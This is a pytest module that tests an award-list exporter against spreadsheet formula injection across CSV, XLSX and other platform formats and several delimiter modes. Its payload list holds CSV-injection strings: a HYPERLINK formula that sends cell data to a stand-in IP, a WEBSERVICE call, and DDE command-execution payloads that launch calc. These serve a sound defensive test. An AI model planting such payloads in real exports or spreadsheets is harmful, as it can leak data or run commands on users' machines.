"""A list of awards in a real spreadsheet: whatever somebody wrote, nothing of it is run."""

from __future__ import annotations

import csv
import itertools
from collections.abc import Callable
from pathlib import Path

import pytest

from core.exports import PLATFORMS, AwardRow, as_csv, as_xlsx
from core.exports.platforms import Handover
from tests.support import office

SIGNS = "=+-@＝＋－＠"
BEFORE = [
    "",
    ";",
    ",",
    "|",
    '"',
    "'",
    "\t",
    " ",
    "\n",
    "\r",
    "\r\n",
    ";;",
    '";"',
    "','",
    "x;",
    "x,",
    'x"',
    '",',
    "\t;",
    "\u2028",
    "\v",
    "\ufeff",
    "\u200b",
    "\u00a0",
]
WHAT = [
    "1+1",
    "SUM(1;1)",
    "SUM(1,1)",
    "A1",
    'HYPERLINK("http://192.0.2.1/?x="&A1;"here")',
    'WEBSERVICE("http://192.0.2.1/")',
    "cmd|' /C calc'!A0",
    'DDE("soffice";"file";"a1")',
    "1+1\n=1+1;=1+1,=1+1\t=1+1|=1+1\"=1+1'=1+1",
]
# As the dialog offers them: which characters part the cells, and which one is around them.
MODES = {
    "comma": ("44", "34"),
    "semicolon": ("59", "34"),
    "tab": ("9", "34"),
    "mixed": ("44/59/9", "34"),
}
MORE_MODES = {
    "mixed, parts merged": ("44/59/9/MRG", "34"),
    "mixed, apostrophes for quotes": ("44/59/9", "39"),
    "spaces and bars, too": ("44/59/9/32/124", "34"),
}
ORDINARY = AwardRow(
    award="a1",
    badge="bicycle-repair",
    badge_name="Bicycle repair",
    badge_version=1,
    awarded_at="2026-01-02T03:04:05+00:00",
    space="Riverside",
    shared=True,
    revoked=False,
    suspended=False,
    page="https://example.org/awards/a1",
    credential="https://example.org/credentials/a1",
)
Opened = Callable[[str], dict[str, str]]


def attacks() -> list[AwardRow]:
    """Each sign, in each place where a cell could begin, before each thing that could be run."""
    cells = [
        f"{before}{sign}{what}" for before, sign, what in itertools.product(BEFORE, SIGNS, WHAT)
    ]
    return [ORDINARY._replace(badge_name=one, space=f"R {one}", badge=one) for one in cells]


def unguarded(rows: list[AwardRow], file: Path) -> None:
    """The same list as an ordinary program writes it."""
    with file.open("w", encoding="utf-8-sig", newline="") as target:
        writer = csv.writer(target)
        for row in rows:
            writer.writerow(row)


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Opened:
    """Opens the lists in one of the modes; gives the sheets by name."""
    place = tmp_path_factory.mktemp("lists")
    found: dict[str, dict[str, str]] = {}

    def opens(mode: str) -> dict[str, str]:
        if mode not in found:
            folder = place / f"mode-{len(found)}"
            folder.mkdir()
            guarded, plain = folder / "guarded.csv", folder / "plain.csv"
            guarded.write_text("".join(as_csv(attacks())), encoding="utf-8-sig", newline="")
            unguarded(attacks(), plain)
            separators, quotes = (MODES | MORE_MODES)[mode]
            office.opened([guarded, plain], separators, place / "profile", quotes=quotes)
            sheets = {one.stem: office.sheet(one) for one in folder.glob("*.ods")}
            found[mode] = sheets
        return found[mode]

    return opens


@pytest.mark.parametrize(
    "mode", [*MODES, *(pytest.param(one, marks=pytest.mark.stress) for one in MORE_MODES)]
)
def test_nothing_that_somebody_wrote_becomes_a_formula(mode: str, opened: Opened) -> None:
    sheets = opened(mode)
    live = sheets["guarded"].count("table:formula=")
    plain = sheets["plain"].count("table:formula=")
    print(f"{mode}: {live} formulas; written the usual way, {plain}")
    assert plain > 10, "this way of opening runs no formulas, so it proves nothing"
    assert live == 0


def test_an_ordinary_list_is_read_as_it_was_written(tmp_path: Path) -> None:
    target = tmp_path / "awards.csv"
    rows = [ORDINARY, ORDINARY._replace(award="a2", badge_name="Reparación de bicis", shared=False)]
    target.write_text("".join(as_csv(rows)), encoding="utf-8-sig", newline="")
    office.opened([target], "44", tmp_path / "profile")
    cells = office.sheet(tmp_path / "awards.ods")
    for text in ("award", "Bicycle repair", "Reparación de bicis", "2026-01-02T03:04:05+00:00"):
        assert f"<text:p>{text}</text:p>" in cells


# -- other forms of the same list -----------------------------------------------------------


def handed_over() -> list[Handover]:
    """The same attacks in every cell that another platform gets."""
    return [Handover(*[one.badge_name] * len(Handover._fields)) for one in attacks()]


@pytest.mark.parametrize(
    "mode",
    ["mixed", *(pytest.param(one, marks=pytest.mark.stress) for one in MODES if one != "mixed")],
)
def test_no_list_for_another_platform_holds_a_formula(mode: str, tmp_path: Path) -> None:
    files = []
    for key, platform in PLATFORMS.items():
        files.append(tmp_path / f"{key}.csv")
        text = "".join(platform.write(handed_over()[::5]))
        files[-1].write_text(text, encoding="utf-8", newline="")
    separators, quotes = MODES[mode]
    office.opened(files, separators, tmp_path / "profile", quotes=quotes)
    live = {one.stem: office.sheet(one).count("table:formula=") for one in tmp_path.glob("*.ods")}
    print(f"{mode}: {live}")
    assert live == dict.fromkeys(PLATFORMS, 0)


def test_a_workbook_holds_every_attack_as_text_and_no_formula(tmp_path: Path) -> None:
    target, rows = tmp_path / "awards.xlsx", attacks()
    target.write_bytes(b"".join(as_xlsx(rows)))
    office.opened_workbook(target, tmp_path / "profile")
    cells = office.sheet(tmp_path / "awards.ods")
    assert cells.count("table:formula=") == 0
    assert cells.count('calcext:value-type="string"') + cells.count(
        'office:value-type="string"'
    ) >= 2 * len(rows)
    assert "WEBSERVICE" in cells
